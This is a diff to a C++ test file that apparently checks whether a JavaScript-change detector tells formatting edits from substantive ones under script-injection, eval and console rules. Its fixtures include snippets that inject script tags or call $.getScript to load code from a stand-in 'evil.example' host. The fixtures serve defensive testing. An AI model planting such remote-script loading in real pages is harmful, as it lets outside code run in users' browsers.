@@ -45,6 +45,12 @@ std::string script_of(const std::string& body) {
   return "define(['jquery'], function ($) {\n  return function () {\n" + body + "\n  };\n});\n";
 }
 
+std::string repeated(const std::string& text, int times) {
+  std::string out;
+  for (int i = 0; i < times; ++i) out += text;
+  return out;
+}
+
 /// The same line in a widget, before and after.
 Change line(const char* what, std::string_view rule, const std::string& before,
             const std::string& after, bool same) {
@@ -56,6 +62,11 @@ std::vector<Change> formatting() {
   return {
       line("quotes", "js-console", log, "console.log(\"a\", b);", true),
       line("a template without holes", "js-console", log, "console.log(`a`, b);", true),
+      line("a renamed parameter beside", "js-script-injection",
+           "function load(u, done) { $.getScript(u, done); } load('https://a.example/a.js', f);",
+           "function load(u, done) { $.getScript( u , done ) }\n load(\"https://a.example/a.js\", "
+           "f)",
+           true),
       line("quotes around a key", "js-console", "console.log({'a': 1});", "console.log({a: 1});",
            true),
       line("a member by its text", "js-console", "console.log(x['a']);", "console.log(x.a);", true),
@@ -95,6 +106,27 @@ std::vector<Change> substance() {
       line("another text", "js-console", "console.log('a');", "console.log('b');", false),
       line("another method", "js-console", "console.log('a');", "console.warn('a');", false),
       line("another address of a script", "js-script-injection", injected, other, false),
+      line("another text of a script", "js-script-injection",
+           "var s = document.createElement('script'); s.text = 'a()'; document.head.append(s);",
+           "var s = document.createElement('script'); s.text = 'b()'; document.head.append(s);",
+           false),
+      line("the end of a long text of a script", "js-script-injection",
+           "var s = document.createElement('script'); s.textContent = '" + std::string(900, 'x') +
+               "'; document.head.append(s);",
+           "var s = document.createElement('script'); s.textContent = '" + std::string(899, 'x') +
+               "y'; document.head.append(s);",
+           false),
+      line("an address that a parameter brings", "js-script-injection",
+           "function load(u) { var s = document.createElement('script'); s.src = u; "
+           "document.head.append(s); } load('https://good.example/a.js');",
+           "function load(u) { var s = document.createElement('script'); s.src = u; "
+           "document.head.append(s); } load('https://evil.example/a.js');",
+           false),
+      line("what a parameter brings to getScript", "js-script-injection",
+           "function load(u) { $.getScript(u); } load('https://good.example/a.js');",
+           "function load(u) { $.getScript(u); } load('https://evil.example/a.js');", false),
+      line("the end of a long sum", "js-eval", "eval('a' + " + repeated("x + ", 100) + "'b');",
+           "eval('a' + " + repeated("x + ", 100) + "'c');", false),
       line("another script by getScript", "js-script-injection",
            "$.getScript('https://good.example/a.js');", "$.getScript('https://evil.example/a.js');",
            false),
